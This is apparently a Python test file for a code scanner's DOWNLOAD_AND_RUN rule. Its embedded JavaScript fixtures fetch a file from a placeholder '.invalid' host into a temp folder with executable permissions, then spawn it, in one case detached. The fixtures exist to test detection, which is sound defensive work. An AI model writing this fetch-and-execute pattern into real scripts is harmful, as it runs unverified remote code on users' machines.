"""A download saved by a promise the code makes itself (``new Promise(resolve => https.get(url, res
=> { res.pipe(out); out.on('finish', () => resolve(dest)); }))``): awaiting it gives the path it
was saved to, and ``Promise.all`` over several gives each path by position, so running one of
them runs the download. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_FETCHER = (
    "const https = require('https');\n"
    "const fs = require('fs');\n"
    "const os = require('os');\n"
    "const path = require('path');\n"
    "const { spawn } = require('child_process');\n"
    "const home = path.join(os.tmpdir(), 'sprites');\n"
    "const origin = ['https:', '', 'assets.tile-forge.invalid', 'pack'].join('/');\n"
    "function save(file) {\n"
    "  return new Promise((done, fail) => {\n"
    "    const target = path.join(home, file);\n"
    "    https.get(origin + '/' + file, (reply) => {\n"
    "      const sink = fs.createWriteStream(target, { mode: 0o700 });\n"
    "      reply.pipe(sink);\n"
    "      sink.on('close', () => done(target));\n"
    "    }).on('error', fail);\n"
    "  });\n"
    "}\n"
)


def test_running_a_path_a_promise_saved_a_download_to_is_download_and_run(tmp_path: Path) -> None:
    code = (
        _FETCHER
        + "(async () => {\n"
        + "  const bin = await save('packer');\n"
        + "  spawn(bin, ['--all']);\n"
        + "})();\n"
    )
    errors = scan_errors(tmp_path, {"scripts/sprites.js": code})
    assert any(rule == "DOWNLOAD_AND_RUN" and path == "scripts/sprites.js" for rule, path, _ in errors)


def test_running_one_of_several_paths_promise_all_gives_is_download_and_run(tmp_path: Path) -> None:
    code = _FETCHER + (
        "const names = ['atlas.json', 'packer'];\n"
        "(async () => {\n"
        "  const saved = await Promise.all(names.map(save));\n"
        "  spawn(saved[1], ['--atlas', saved[0]], { detached: true }).unref();\n"
        "})();\n"
    )
    errors = scan_errors(tmp_path, {"scripts/sprites.js": code})
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)


def test_downloads_read_as_data_and_a_system_tool_run_stay_clean(tmp_path: Path) -> None:
    code = _FETCHER + (
        "const names = ['atlas.json', 'tiles.png'];\n"
        "(async () => {\n"
        "  const saved = await Promise.all(names.map(save));\n"
        "  const atlas = JSON.parse(fs.readFileSync(saved[0], 'utf8'));\n"
        "  const tiles = fs.statSync(saved[1]).size;\n"
        "  spawn('fc-cache', ['-f']);\n"
        "  console.log(Object.keys(atlas).length);\n"
        "})();\n"
    )
    assert not scan_errors(tmp_path, {"scripts/sprites.js": code})
